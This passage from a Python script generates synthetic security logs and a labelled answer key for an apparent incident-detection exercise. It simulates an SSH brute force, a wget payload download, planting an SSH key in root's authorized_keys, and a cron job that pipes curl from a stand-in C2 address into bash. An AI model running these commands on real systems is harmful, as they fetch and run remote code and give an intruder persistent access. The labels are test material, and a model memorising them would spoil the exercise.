            t += timedelta(seconds=rng.uniform(2.0, 2.6))
            WEB_AUTH.add(t, tag, f"Failed password for deploy from {A} port {port} ssh2")
            t += timedelta(seconds=rng.uniform(2.0, 2.6))
            WEB_AUTH.add(t, tag, f"Accepted password for deploy from {A} port {port} ssh2")
            WEB_AUTH.add(t, tag, "pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)")
            hs = next_session()
            WEB_AUTH.add(t, f"systemd-logind[{LOGIND}]", f"New session {hs} of user deploy.")
            WEB_SYS.add(t, "systemd[1]", f"Started Session {hs} of user deploy.")
            t += timedelta(seconds=0.4)
            WEB_AUTH.add(t, tag, f"Received disconnect from {A} port {port}:11: Bye Bye")
            WEB_AUTH.add(t, tag, f"Disconnected from user deploy {A} port {port}")
            WEB_AUTH.add(t, tag, "pam_unix(sshd:session): session closed for user deploy")
            WEB_AUTH.add(t, f"systemd-logind[{LOGIND}]", f"Session {hs} logged out. Waiting for processes to exit.")
            WEB_AUTH.add(t, f"systemd-logind[{LOGIND}]", f"Removed session {hs}.")
            WEB_SYS.add(t, "systemd[1]", f"session-{hs}.scope: Succeeded.")
            conn(c0 - timedelta(seconds=0.4), A, port, IP["web01"], 22, "tcp", "ssh",
                 (t - c0).total_seconds() + 0.5, rng.randint(2600, 3400), rng.randint(3400, 4600))
            t_ok = t + timedelta(seconds=51.3)  # the attacker's own interactive login
            STORY_LINUX["brute"] = (at(TUE, 2, 11, 5.0), t)
            break
        for a in range(k):
            t += timedelta(seconds=rng.uniform(2.0, 2.8))
            attempts += 1
            if user in ("root", "deploy"):
                WEB_AUTH.add(t, tag, f"Failed password for {user} from {A} port {port} ssh2")
            else:
                WEB_AUTH.add(t, tag, f"Failed password for invalid user {user} from {A} port {port} ssh2")
        more = k - 1
        if more >= 1:
            extra = f"  user={user}" if user in ("root", "deploy") else ""
            WEB_AUTH.add(t, tag, f"PAM {more} more authentication failure{'s' if more > 1 else ''}; logname= "
                                 f"uid=0 euid=0 tty=ssh ruser= rhost={A}{extra}")
        who = "authenticating user" if user in ("root", "deploy") else "invalid user"
        WEB_AUTH.add(t, tag, f"Connection closed by {who} {user} {A} port {port} [preauth]")
        conn(c0 - timedelta(seconds=0.4), A, port, IP["web01"], 22, "tcp", "ssh",
             (t - c0).total_seconds() + 0.5, rng.randint(1500, 2600), rng.randint(2200, 3400))
        t += timedelta(seconds=rng.uniform(0.8, 4.5))
    # 02:38:52 valid account (T1078) -> sudo (T1548.003), tool transfer (T1105), keys (T1098.004),
    # new account (T1136.001), cron persistence (T1053.003)
    t0 = t_ok
    sess = next_session()

    def during(ts: datetime, cmd: str) -> None:
        if "wget" in cmd:
            conn(ts + timedelta(seconds=0.4), IP["web01"], rng.randint(40000, 60000), C2, 80, "tcp", "http",
                 1.9, 163, 1_204_331)
        if cmd.endswith("/bin/bash"):
            tt = ts + timedelta(seconds=34.2)
            upid = pids.at(tt)
            WEB_AUTH.add(tt, f"useradd[{upid}]", "new group: name=sysupdate, GID=1002")
            WEB_AUTH.add(tt, f"useradd[{upid}]", "new user: name=sysupdate, UID=1002, GID=1002, "
                                                "home=/home/sysupdate, shell=/bin/bash")
            tt += timedelta(seconds=15.8)
            WEB_AUTH.add(tt, f"passwd[{pids.at(tt)}]", "pam_unix(passwd:chauthtok): password changed for sysupdate")
            tt += timedelta(seconds=19.3)
            mpid = pids.at(tt)
            WEB_AUTH.add(tt, f"usermod[{mpid}]", "add 'sysupdate' to group 'sudo'")
            WEB_AUTH.add(tt, f"usermod[{mpid}]", "add 'sysupdate' to shadow group 'sudo'")
            tt += timedelta(seconds=40.6)
            cpid = pids.at(tt)
            WEB_SYS.add(tt, f"crontab[{cpid}]", "(root) BEGIN EDIT (root)")
            tt += timedelta(seconds=22.1)
            WEB_SYS.add(tt, f"crontab[{cpid}]", "(root) REPLACE (root)")
            WEB_SYS.add(tt, f"crontab[{cpid}]", "(root) END EDIT (root)")
            STORY_LINUX["crontab"] = (tt, tt)
            # the dropped binary phones home
            conn(tt + timedelta(seconds=48), IP["web01"], rng.randint(40000, 60000), C2, 443, "tcp", "-",
                 1800.2, 48_211, 301_877, history="ShADadfF")
            reload_t = tt.replace(second=1, microsecond=0) + timedelta(minutes=1)
            WEB_SYS.add(reload_t, f"cron[{CRON_D}]", "(root) RELOAD (crontabs/root)")
            WEB_AUTH.add(tt + timedelta(seconds=96.5), "sudo", "pam_unix(sudo:session): session closed for user root")

    _, port = ssh_session(pids, rng, t0, "deploy", 1001, A, "password", 402.0, sess, [
        (47.3, "/home/deploy", "/usr/bin/id"),
        (98.6, "/home/deploy", "/usr/bin/wget http://198.51.100.23/x -O /tmp/.x"),
        (131.0, "/home/deploy", f"/bin/bash -c echo {ATTACKER_KEY} >> /root/.ssh/authorized_keys"),
        (163.9, "/home/deploy", "/bin/bash"),
    ], between=during)
    STORY_LINUX["web01-intrusion"] = (t_first, t0 + timedelta(seconds=402.0))
    # persistence: every 6 hours (7 */6 * * *) curl | bash from the C2 (T1053.003, T1105)
    t = at(TUE, 6, 7, 1.0)
    while t <= WEEK_END:
        cron_job(WEB_AUTH, WEB_SYS, pids, t, "root", 0, "curl -s http://198.51.100.23/u.sh | bash",
                 rng.uniform(0.4, 1.5))
        conn(t + timedelta(seconds=0.1), IP["web01"], rng.randint(40000, 60000), C2, 80, "tcp", "http",
             rng.uniform(0.15, 0.6), 86, rng.randint(300, 420))
        CRON_BEACONS.append(t)
        t += timedelta(hours=6)
    # Wednesday 01:12 the attacker comes back as root with the planted key (T1098.004, T1078)
    t = at(WED, 1, 12, 33.0)
    ssh_session(pids, rng, t, "root", 0, A, "publickey", 312.0, next_session(),
                key_fp="RSA SHA256:3nVv2vYbq0a9oQ6wqXc1bWm8y5kP7e2GZsJrT4hLdUw")
    STORY_LINUX["web01-root-return"] = (t, t + timedelta(seconds=312.0))


# --------------------------------------------------------------------------------------------
# BACKUP01 (Linux) syslog: the nightly backup job, failing on Monday (svc_backup story)
# --------------------------------------------------------------------------------------------

def backup01() -> None:
    rng = rstream("backup01")
    pids = Pids(91_000, 1 / 15, rng)
    linux_daily(BK_SYS, None, pids, rng, 388)
    uptime0 = datetime(2026, 2, 27, 9, 41, 2, tzinfo=UTC)  # kernel uptime base for [..] stamps

    def kstamp(t: datetime) -> str:
        up = (t - uptime0).total_seconds()
        return f"[{up:12.6f}]"

    # Monday 19:00: the job starts; every attempt fails because the stored password is stale
    start = at(MON, 19, 0, 1.0)
    cpid = pids.at(start)
    BK_SYS.add(start, f"CRON[{cpid}]", "(root) CMD (/usr/local/bin/backup.sh nightly)")
    bpid = pids.at(start)
    tag = f"backup.sh[{bpid}]"
    BK_SYS.add(start + timedelta(seconds=0.6), tag, "starting nightly backup of //FS01/shares to /srv/backup/fs01")
    for t, n in BACKUP_FAILS:
        BK_SYS.add(t + timedelta(seconds=0.02), tag,
                   "kinit: Preauthentication failed while getting initial credentials")
        t2 = t + timedelta(seconds=0.3)
        if n == 1 or n % 10 == 0:
            BK_SYS.add(t2, "kernel", f"{kstamp(t2)} CIFS: VFS: \\\\FS01 Send error in SessSetup = -13")
            BK_SYS.add(t2, "kernel", f"{kstamp(t2)} CIFS: VFS: cifs_mount failed w/return code = -13")
            BK_SYS.add(t2, tag, "mount error(13): Permission denied")
            BK_SYS.add(t2, tag, "Refer to the mount.cifs(8) manual page (e.g. man mount.cifs) and kernel log "
                                "messages (dmesg)")
        else:
            BK_SYS.add(t2, tag, "smbclient //FS01/shares -A /etc/backup/fs01.cred: session setup failed: "
                                "NT_STATUS_LOGON_FAILURE")
        nxt = [x for x, m in BACKUP_FAILS if m == n + 1]
        if nxt:
            wait = int(round((nxt[0] - t).total_seconds()))
            BK_SYS.add(t2 + timedelta(seconds=0.01), tag, f"attempt {n} failed, retrying in {wait}s")
    t_last = BACKUP_FAILS[-1][0] + timedelta(seconds=0.5)
    BK_SYS.add(t_last, tag, f"giving up after {len(BACKUP_FAILS)} attempts: nightly backup FAILED")
    BK_SYS.add(t_last + timedelta(seconds=0.1), f"CRON[{cpid}]", "(CRON) info (No MTA installed, discarding output)")
    # Tuesday 09:2x: an admin logs in, fixes /etc/backup/fs01.cred and runs a test
    t = at(TUE, 9, 21, 48.0)
    BK_SYS.add(t, "systemd[1]", "Started Session 12 of user it_admin.")
    conn(t - timedelta(seconds=0.5), IP["admin"], rng.randint(40000, 60000), IP["BACKUP01"], 22, "tcp", "ssh",
         402.0, 9_310, 41_877)
    for i, (t_run, dur) in enumerate(BACKUP_OK):
        if i == 0:
            p = pids.at(t_run)
            BK_SYS.add(t_run, f"backup.sh[{p}]", "manual run (--test): mounted //FS01/shares on /mnt/fs01 (sec=krb5)")
            BK_SYS.add(t_run + timedelta(seconds=dur), f"backup.sh[{p}]", "test OK, unmounted /mnt/fs01")
        else:
            cp = pids.at(t_run - timedelta(seconds=1))
            BK_SYS.add(t_run - timedelta(seconds=1), f"CRON[{cp}]", "(root) CMD (/usr/local/bin/backup.sh nightly)")
            p = pids.at(t_run)
            tg = f"backup.sh[{p}]"
            BK_SYS.add(t_run - timedelta(seconds=0.4), tg, "starting nightly backup of //FS01/shares to /srv/backup/fs01")
            BK_SYS.add(t_run + timedelta(seconds=0.3), tg, "mounted //FS01/shares on /mnt/fs01 (sec=krb5)")
            files = rng.randint(900, 2400)
            gib = rng.uniform(1.7, 2.5)
            BK_SYS.add(t_run + timedelta(seconds=dur), tg,
                       f"rsync finished: {files} files, {gib:.1f} GiB in {int(dur // 60)}m{int(dur % 60):02d}s")
            BK_SYS.add(t_run + timedelta(seconds=dur + 0.4), tg, "nightly backup OK, unmounted /mnt/fs01")
    BK_SYS.add(at(TUE, 9, 28, 30.0), "systemd[1]", "session-12.scope: Succeeded.")


def linux_all() -> None:
    pids = Pids(210_000, 1 / 12, rstream("web01-pids"))
    web01_background(pids)
    web_background()
    story_web01(pids)
    backup01()


# --------------------------------------------------------------------------------------------
# main
# --------------------------------------------------------------------------------------------

# --------------------------------------------------------------------------------------------
# labels.tsv
# --------------------------------------------------------------------------------------------

def _floor(t: datetime, margin_min: float) -> str:
    t = (t - timedelta(minutes=margin_min)).replace(second=0, microsecond=0)
    return t.strftime("%Y-%m-%dT%H:%M:%SZ")


def _ceil(t: datetime, margin_min: float) -> str:
    t = t + timedelta(minutes=margin_min)
    if t.second or t.microsecond:
        t = t.replace(second=0, microsecond=0) + timedelta(minutes=1)
    return t.strftime("%Y-%m-%dT%H:%M:%SZ")


WEB01_TECH = "T1595.002,T1190,T1110.001,T1078,T1548.003,T1105,T1098.004,T1136.001,T1053.003"
WS01_TECH = ("T1566.001,T1204.002,T1059.001,T1027,T1071.001,T1547.001,T1548.002,T1003.001,T1105,"
             "T1021.002,T1569.002")
FS01_TECH = "T1021.002,T1569.002,T1078,T1087.002"


def labels() -> list[list[str]]:
    rows: list[list[str]] = []

    def row(host, user, t0, t1, cause, tech, risk, story, margin=3.0):
        rows.append([host, user, _floor(t0, margin), _ceil(t1, margin), cause, tech, risk, story])

    # web01 intrusion: scan -> brute force -> deploy login -> sudo, tools, keys, account, cron
    a, b = STORY_LINUX["web01-intrusion"]
    row("web01", "", a, b, "malicious", WEB01_TECH, "critical", "web01-intrusion")
    row(IP["web01"], "", a, b, "malicious", "T1105,T1071.001", "critical", "web01-intrusion")
    week = ["2026-03-02T00:00:00Z", "2026-03-06T23:59:59Z"]
    rows.append([ATTACKER, "", *week, "malicious",
                 "T1595.002,T1190,T1110.001,T1078,T1098.004", "critical", "web01-intrusion"])
    a, b = STORY_LINUX["web01-root-return"]
    row("web01", "root", a, b, "malicious", "T1078,T1098.004", "critical", "web01-intrusion")
    for t in CRON_BEACONS:
        row("web01", "", t, t, "malicious", "T1053.003,T1105", "high", "web01-intrusion", margin=2.0)
        row(IP["web01"], "", t, t, "malicious", "T1053.003,T1105", "high", "web01-intrusion", margin=2.0)
    # WS01 phishing -> credential dumping -> PsExec to FS01
    a, b = STORY_WINDOWS["ws01"]
    row("WS01", "", a, b, "malicious", WS01_TECH, "critical", "ws01-phish-lateral")
    fa, fb = STORY_WINDOWS["fs01"]
    row("FS01", "", fa, fb, "malicious", FS01_TECH, "critical", "ws01-phish-lateral")
    row("DC01", "alice", fa, fb, "malicious", "T1021.002,T1087.002", "high", "ws01-phish-lateral")
    _, thu_end = STORY_WINDOWS["ws01-thu-end"]
    row("WS01", "alice", b, thu_end, "malicious", "T1071.001", "high", "ws01-phish-lateral")
    fri0, fri1 = STORY_WINDOWS["ws01-fri"]
    row("WS01", "alice", fri0, fri1, "malicious", "T1547.001,T1059.001,T1027,T1071.001", "high",
        "ws01-phish-lateral")
    # svc_backup stale password
    a, b = STORY_WINDOWS["svc_backup"]
    for host, user in (("FS01", "svc_backup"), ("DC01", "svc_backup"), ("backup01", ""),
                       (IP["BACKUP01"], "")):
        row(host, user, a, b, "misconfiguration", "", "medium", "svc-backup-stale-password")
    # WS02 clock skew
    a, b = STORY_WINDOWS["ws02-skew"]
    for host, user in (("WS02", ""), ("DC01", "bob"), ("DC01", "ws02$")):
        row(host, user, a, b, "misconfiguration", "", "low", "ws02-clock-skew")
    # legitimate look-alikes
    a, b = STORY_WINDOWS["vendor-task"]
    row("WS02", "it_admin", a, b, "legitimate", "T1053.005", "low", "it-admin-vendor-task")
    a, b = STORY_WINDOWS["pw-rotation"]
    row("DC01", "it_admin", a, b, "legitimate", "T1098", "low", "svc-backup-password-rotation")
    rows.append(["*", "", *week, "legitimate", "", "low", "background"])
    return rows


def write_labels(path: str) -> int:
    rows = labels()
    with open(path, "w", encoding="utf-8", newline="\n") as fh:
        fh.write("host\tuser\tstart\tend\tcause\ttechniques\trisk\tstory\n")
        for r in rows:
            fh.write("\t".join(r) + "\n")
    return len(rows)


def write_zeek(path: str) -> int:
    ZEEK.sort(key=lambda r: (r[0], r[1][1]))
    opened = WEEK_START.strftime("%Y-%m-%d-%H-%M-%S")
    closed = (WEEK_END + timedelta(seconds=1)).strftime("%Y-%m-%d-%H-%M-%S")
    head = [
        "#separator \\x09", "#set_separator\t,", "#empty_field\t(empty)", "#unset_field\t-",
        "#path\tconn", f"#open\t{opened}",
        "#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tservice\tduration\t"
        "orig_bytes\tresp_bytes\tconn_state\tlocal_orig\tlocal_resp\tmissed_bytes\thistory\t"
        "orig_pkts\torig_ip_bytes\tresp_pkts\tresp_ip_bytes\ttunnel_parents",
        "#types\ttime\tstring\taddr\tport\taddr\tport\tenum\tstring\tinterval\tcount\tcount\t"
        "string\tbool\tbool\tcount\tstring\tcount\tcount\tcount\tcount\tset[string]",
    ]
    with open(path, "w", encoding="utf-8", newline="\n") as fh:
        for line in head:
            fh.write(line + "\n")
        for _, row in ZEEK:
            fh.write("\t".join(row) + "\n")
        fh.write(f"#close\t{closed}\n")
    return len(ZEEK)


def out(*parts: str) -> str:
    p = os.path.join(HERE, *parts)
    os.makedirs(os.path.dirname(p), exist_ok=True)
    return p


def main() -> None:
    windows_background()
    story_phish_to_fileserver()
    story_svc_backup_windows()
    story_clock_skew()
    story_vendor_task()
    linux_all()
    counts = {}
    for h in WINHOSTS:
        counts[f"windows/{h.name}.jsonl"] = h.write(out("windows", f"{h.name}.jsonl"))
    counts["linux/web01-auth.log"] = WEB_AUTH.write(out("linux", "web01-auth.log"))
    counts["linux/web01-syslog"] = WEB_SYS.write(out("linux", "web01-syslog"))
    counts["linux/backup01-syslog"] = BK_SYS.write(out("linux", "backup01-syslog"))
    ACCESS.sort(key=lambda x: (x[0].replace(microsecond=0), x[1]))
    with open(out("web", "access.log"), "w", encoding="utf-8", newline="\n") as fh:
        for _, _, line in ACCESS:
            fh.write(line + "\n")
    counts["web/access.log"] = len(ACCESS)
    counts["network/conn.log"] = write_zeek(out("network", "conn.log"))
    counts["labels.tsv (rows)"] = write_labels(out("labels.tsv"))
    for k, v in counts.items():
        print(f"{v:6d}  {k}")


if __name__ == "__main__":
    main()
